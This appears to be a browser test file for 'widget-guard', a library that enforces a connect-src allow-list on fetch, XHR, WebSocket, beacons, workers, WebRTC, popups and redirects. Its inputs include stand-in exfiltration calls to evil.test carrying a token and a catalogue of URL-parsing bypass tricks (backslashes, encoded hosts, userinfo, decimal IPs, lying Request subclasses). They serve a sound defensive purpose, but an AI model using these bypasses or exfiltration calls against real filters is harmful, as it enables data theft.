// widget-guard's network sinks in real Chromium: each allowed and blocked, with the reason and
// the violation report a widget author relies on.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';

import { OPTIONS, PAGE_CSP, startBrowser } from './harness.mjs';

let browser;
let page;
before(async () => {
  browser = await startBrowser();
  page = await browser.open({ options: OPTIONS, csp: PAGE_CSP });
});
after(() => browser.close());

const inPage = (fn, arg) => page.evaluate(fn, arg);

test('an allowed fetch goes through and returns the response', async () => {
  const result = await inPage(() => attempt(() => fetch('https://api.test/v1/items?q=1').then((r) => r.json())));
  assert.deepEqual(result, { value: { host: 'api.test', path: '/v1/items', method: 'GET' } });
});

test('a fetch to an unlisted origin rejects with a TypeError that says why, and reports without the query', async () => {
  const result = await inPage(async () => {
    violations.length = events.length = 0;
    const outcome = await attempt(() => fetch('https://evil.test/steal?token=secret#frag'));
    return { outcome, violations, events };
  });
  assert.equal(result.outcome.error, 'TypeError');
  assert.match(result.outcome.message, /^Failed to fetch: widget-guard refused fetch: blocked: https:\/\/evil\.test\/steal: no source in connect-src matches/);
  assert.match(result.outcome.message, /To allow it, add https:\/\/evil\.test to connect-src/);
  const [violation] = result.violations;
  assert.equal(violation.blockedURL, 'https://evil.test/steal');
  assert.equal(violation.documentURL, 'https://widget.test/widget');
  assert.equal(violation.effectiveDirective, 'connect-src');
  assert.equal(violation.violatedDirective, 'connect-src');
  assert.equal(violation.disposition, 'enforce');
  assert.equal(violation.sink, 'fetch');
  assert.deepEqual(result.events, result.violations, 'the DOM event carries the same report');
  assert.ok(!JSON.stringify(result).includes('secret'), 'no query string anywhere in the reports');
});

test('the allow-list narrows by path and by method', async () => {
  const result = await inPage(async () => ({
    path: await attempt(() => fetch('https://api.test/admin/users')),
    method: await attempt(() => fetch('https://api.test/v1/items', { method: 'DELETE' })),
    post: await attempt(() => fetch('https://api.test/v1/items', { method: 'POST', body: '{}' }).then((r) => r.json())),
  }));
  assert.match(result.path.message, /GET https:\/\/api\.test\/admin\/users matches no allow rule; nearest is https:\/\/api\.test \(path differs\)/);
  assert.match(result.method.message, /DELETE https:\/\/api\.test\/v1\/items matches no allow rule; nearest is https:\/\/api\.test \(method not allowed\)/);
  assert.equal(result.post.value.method, 'POST');
});

test('Request objects: the URL and method are read from the request itself, whatever its class or getters claim', async () => {
  const result = await inPage(async () => {
    class Lying extends Request {
      get url() { return 'https://api.test/v1/ok'; }
      get method() { return 'GET'; }
    }
    let reads = 0;
    const shifty = { toString: () => (reads++ === 0 ? 'https://api.test/v1/ok' : 'https://evil.test/') };
    return {
      request: await attempt(() => fetch(new Request('https://evil.test/x'))),
      subclass: await attempt(() => fetch(new Lying('https://evil.test/x', { method: 'POST' }))),
      shifty: await attempt(() => fetch(shifty).then((r) => r.json())),
      forgedThis: await attempt(() => fetch.call({ fetch: () => 'unguarded' }, 'https://evil.test/')),
      init: await attempt(() => fetch(new Request('https://api.test/v1/x'), { method: 'PUT' })),
    };
  });
  assert.equal(result.request.error, 'TypeError');
  assert.match(result.subclass.message, /https:\/\/evil\.test\/x/);
  assert.equal(result.shifty.value.host, 'api.test', 'a URL object is stringified once: what was checked is what was sent');
  assert.equal(result.forgedThis.error, 'TypeError');
  assert.match(result.init.message, /PUT https:\/\/api\.test\/v1\/x matches no allow rule/);
});

test("URL tricks are decided on the browser's own parse of the URL", async () => {
  const cases = {
    backslashes: 'https:\\\\evil.test\\v1\\',
    tabsAndNewlines: 'https://ev\til.te\nst/v1/',
    percentHost: 'https://%65vil.test/v1/',
    dotDot: 'https://api.test/v1/../admin',
    encodedDotDot: 'https://api.test/v1/%2e%2e/admin',
    uppercase: 'HTTPS://EVIL.TEST/V1/',
    trailingDot: 'https://api.test./v1/',
    decimalIp: 'https://2130706433/v1/',
    idn: 'https://bücher.test/v1/',
    allowedUppercase: 'HTTPS://API.TEST/v1/x',
  };
  const result = await inPage(async (urls) => {
    const out = {};
    for (const [name, url] of Object.entries(urls)) {
      const outcome = await attempt(() => fetch(url).then((r) => r.json()));
      out[name] = outcome.value ? 'allowed' : outcome.message.match(/(https?:\/\/\S+?):?\s/)?.[1] ?? outcome.message;
    }
    // fetch itself refuses URLs with credentials; the guard's check sees the host after the @.
    out.userinfo = (await guardReady).check('https://api.test@evil.test/v1/').reason.match(/(https?:\/\/\S+?):?\s/)[1];
    return out;
  }, cases);
  assert.deepEqual(result, {
    userinfo: 'https://evil.test/v1/',
    backslashes: 'https://evil.test/v1/',
    tabsAndNewlines: 'https://evil.test/v1/',
    percentHost: 'https://evil.test/v1/',
    dotDot: 'https://api.test/admin',
    encodedDotDot: 'https://api.test/admin',
    uppercase: 'https://evil.test/V1/',
    trailingDot: 'https://api.test./v1/',
    decimalIp: 'https://127.0.0.1/v1/',
    idn: 'https://xn--bcher-kva.test/v1/',
    allowedUppercase: 'allowed',
  });
});

test('XMLHttpRequest: checked at open, refused at send', async () => {
  const result = await inPage(async () => {
    const xhr = (method, url) => attempt(() => new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.open(method, url);
      request.onload = () => resolve(JSON.parse(request.responseText));
      request.onerror = () => reject(new Error('network error'));
      request.send();
    }));
    return { allowed: await xhr('GET', 'https://api.test/v1/x'), blocked: await xhr('GET', 'https://evil.test/'), method: await xhr('PATCH', 'https://api.test/v1/x') };
  });
  assert.equal(result.allowed.value.path, '/v1/x');
  assert.equal(result.blocked.error, 'NetworkError');
  assert.match(result.blocked.message, /widget-guard refused xhr: blocked: https:\/\/evil\.test\//);
  assert.match(result.method.message, /PATCH https:\/\/api\.test\/v1\/x matches no allow rule/);
});

test('WebSocket, EventSource, sendBeacon', async () => {
  const result = await inPage(async () => ({
    wsBlocked: await attempt(() => new WebSocket('wss://evil.test/socket')),
    wsFromHttps: await attempt(() => new WebSocket('https://evil.test/socket')),
    wsAllowed: await attempt(() => { const ws = new WebSocket('wss://live.test/socket'); ws.close(); return ws instanceof WebSocket && ws.url; }),
    esBlocked: await attempt(() => new EventSource('https://evil.test/events')),
    esAllowed: await attempt(() => new Promise((resolve) => { const es = new EventSource('/events'); es.onmessage = (e) => { es.close(); resolve(e.data); }; })),
    beaconBlocked: navigator.sendBeacon('https://evil.test/beacon', 'data'),
    beaconAllowed: navigator.sendBeacon('https://api.test/v1/beacon', 'data'),
    constants: [WebSocket.OPEN, EventSource.CLOSED, new WebSocket('wss://live.test/').constructor === WebSocket],
  }));
  assert.equal(result.wsBlocked.error, 'SecurityError');
  assert.match(result.wsBlocked.message, /wss:\/\/evil\.test\/socket/);
  assert.match(result.wsFromHttps.message, /wss:\/\/evil\.test\/socket/, 'http(s) URLs are checked as the ws(s) URL the browser connects to');
  assert.equal(result.wsAllowed.value, 'wss://live.test/socket');
  assert.equal(result.esBlocked.error, 'SecurityError');
  assert.equal(result.esAllowed.value, 'hello');
  assert.equal(result.beaconBlocked, false);
  assert.equal(result.beaconAllowed, true);
  assert.deepEqual(result.constants, [1, 2, true]);
});

test('sinks CSP connect-src does not cover: workers, WebRTC, window.open', async () => {
  const result = await inPage(async () => ({
    worker: await attempt(() => new Worker('data:text/javascript,fetch("https://evil.test/")')),
    shared: await attempt(() => new SharedWorker('/worker.js')),
    rtc: await attempt(() => new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.test' }] })),
    openBlocked: window.open('https://evil.test/phish'),
    openBlank: window.open(),
  }));
  assert.equal(result.worker.error, 'SecurityError');
  assert.match(result.worker.message, /add "worker" to allowApis/);
  assert.equal(result.shared.error, 'SecurityError');
  assert.match(result.rtc.message, /add "webrtc" to allowApis/);
  assert.equal(result.openBlocked, null);
  assert.equal(result.openBlank, null, 'an about:blank popup would be a fresh, unguarded realm');
});

test('a redirect the allow-list does not cover is not followed; a rule with followRedirects follows it', async () => {
  const result = await inPage(async () => {
    violations.length = 0;
    return {
      refused: await attempt(() => fetch('https://api.test/v1/redirect?to=https://evil.test/landing')),
      violation: violations[0],
      followed: await attempt(() => fetch('https://cdn.test/redirect?to=https://cdn.test/final').then((r) => r.json())),
      manual: await attempt(() => fetch('https://api.test/v1/redirect?to=https://evil.test/', { redirect: 'manual' }).then((r) => r.type)),
    };
  });
  assert.equal(result.refused.error, 'TypeError');
  assert.match(result.refused.message, /answered with a redirect/);
  assert.equal(result.violation.sink, 'redirect');
  assert.equal(result.followed.value.path, '/final');
  assert.equal(result.manual.value, 'opaqueredirect', "a caller's own redirect: 'manual' is kept");
});

test('guard.check decides without requesting; the audit trail records requests without their query', async () => {
  const result = await inPage(async () => {
    const guard = await guardReady;
    return {
      allowed: guard.check('https://api.test/v1/x', { method: 'post' }),
      blocked: guard.check('https://api.test/v1/x', { method: 'DELETE' }),
      websocket: guard.check('wss://evil.test/', { kind: 'websocket' }),
      allows: [guard.allows('https://api.test/v1/x'), guard.allows('https://api.test/v1/x', { method: 'DELETE' }), guard.allows('/v1/x')],
      audit: guard.audit(),
    };
  });
  assert.equal(result.allowed.allowed, true);
  assert.equal(result.blocked.allowed, false);
  assert.match(result.blocked.reason, /method not allowed/);
  assert.equal(result.websocket.allowed, false);
  assert.deepEqual(result.allows, [true, false, false], 'relative URLs resolve against the widget page');
  assert.ok(result.audit.length > 10);
  assert.ok(result.audit.every((event) => !event.url.includes('?')));
  assert.ok(result.audit.some((event) => event.url === 'https://evil.test/steal' && !event.allowed));
});

test('the audit sink receives each event once, and a violation carries its audit event as id', async () => {
  const result = await inPage(async () => {
    const guard = await guardReady;
    violations.length = 0;
    const before = auditEvents.length;
    await attempt(() => fetch('https://evil.test/correlate?secret=1'));
    return {
      violation: violations[0],
      delivered: auditEvents.slice(before),
      seqs: auditEvents.map((event) => event.seq),
      exported: JSON.parse(guard.exportAudit()).length === guard.audit().length,
    };
  });
  const event = result.delivered.find((e) => e.seq === result.violation.id);
  assert.ok(event, JSON.stringify(result));
  assert.equal(event.url, 'https://evil.test/correlate');
  assert.equal(event.allowed, false);
  assert.deepEqual(result.seqs, [...new Set(result.seqs)].sort((a, b) => a - b), 'each event once, in order');
  assert.equal(result.exported, true);
});
